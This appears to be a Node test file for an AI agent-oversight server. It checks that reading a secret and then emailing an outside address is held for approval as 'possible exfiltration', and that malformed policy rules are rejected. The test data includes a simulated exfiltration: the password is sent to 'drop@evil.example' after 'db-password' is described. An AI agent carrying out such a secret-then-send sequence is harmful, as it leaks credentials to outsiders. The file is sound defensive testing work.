// Issue 21: trajectory policies over HTTP: a secret read followed by an outbound send is held on the
// second step, naming the earlier decision; other agents' histories and internal mail are not.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, type TestServer } from './support/test-server.ts';

let server: TestServer;
before(async () => {
  server = await startServer();
  // Let the new agents run reads and mail, so their history holds calls that ran. (A secret's value read
  // is critical and always held, issue 13; the pattern's first step here is the secret's description.)
  for (const match_path of ['/tools/secrets/describe', '/tools/send_email'])
    assert.equal(
      (await server.call('POST', '/fabric/tool-rules', { body: { name: `allow ${match_path}`, effect: 'allow', match_path } })).status,
      201,
    );
});
after(() => server.close());

const decide = (path: string, agent_id: string, payload: unknown) =>
  server.call('POST', '/fabric/decisions', { body: { path, agent_id, payload } });

test('two-step exfiltration: held on the second step, with the earlier decision named', async () => {
  const created = await server.call('POST', '/fabric/trajectory-policies', {
    body: {
      name: 'secret then external mail',
      rules: [
        {
          steps: [
            { action: '/tools/secrets/*' },
            { action: '/tools/send_email', conditions: [{ field: 'to', op: 'suffix', value: '@ourco.com', negate: true }] },
          ],
          effect: 'require_approval',
          window_seconds: 600,
          reason: 'possible exfiltration',
        },
      ],
    },
  });
  assert.equal(created.status, 201);
  assert.equal(created.body.rules[0].id, 'r1');
  assert.equal((await server.call('GET', '/fabric/trajectory-policies')).body.policies.length, 1);

  const external = { to: 'drop@evil.example', body: 'hi' };
  const before = await decide('/tools/send_email', 'analyst', external);
  assert.equal(before.body.verdict, 'ALLOWED', 'external mail alone is fine');
  const read = await decide('/tools/secrets/describe', 'analyst', { name: 'db-password' });
  assert.equal(read.body.verdict, 'ALLOWED');
  const internal = await decide('/tools/send_email', 'analyst', { to: 'boss@ourco.com', body: 'done' });
  assert.equal(internal.body.verdict, 'ALLOWED', 'internal mail does not complete the pattern');

  const send = await decide('/tools/send_email', 'analyst', { ...external, body: 'the password' });
  assert.equal(send.body.verdict, 'REQUIRE_APPROVAL');
  const policy = send.body.stages[2];
  assert.equal(policy.verdict, 'require_approval');
  assert.deepEqual(policy.data.trajectory.earlier_decisions, [read.body.decision_id]);
  assert.match(policy.detail, new RegExp(`secret then external mail.*possible exfiltration; earlier steps: ${read.body.decision_id}`));

  // Another agent's history is its own.
  const other = await decide('/tools/send_email', 'reporter', external);
  assert.equal(other.body.verdict, 'ALLOWED');
});

test('malformed trajectory rules are refused with the reason', async () => {
  const cases: Array<{ note: string; rules: unknown[]; detail: RegExp }> = [
    { note: 'one step', rules: [{ steps: [{ action: '/tools/a' }], effect: 'deny' }], detail: /2 to 10 steps/ },
    { note: 'bad effect', rules: [{ steps: [{ action: '/tools/a' }, { action: '/tools/b' }], effect: 'allow' }], detail: /effect/ },
    {
      note: 'unknown field',
      rules: [{ steps: [{ action: '/tools/a' }, { action: '/tools/b' }], effect: 'deny', when: 1 }],
      detail: /unknown field `when`/,
    },
    {
      note: 'bad condition',
      rules: [{ steps: [{ action: '/tools/a', conditions: [{ field: 'x', op: 'nope' }] }, { action: '/tools/b' }], effect: 'deny' }],
      detail: /unknown op/,
    },
  ];
  for (const row of cases) {
    const res = await server.call('POST', '/fabric/trajectory-policies', { body: { name: 'x', rules: row.rules } });
    assert.equal(res.status, 422, row.note);
    assert.match(JSON.stringify(res.body.detail), row.detail, row.note);
  }
});
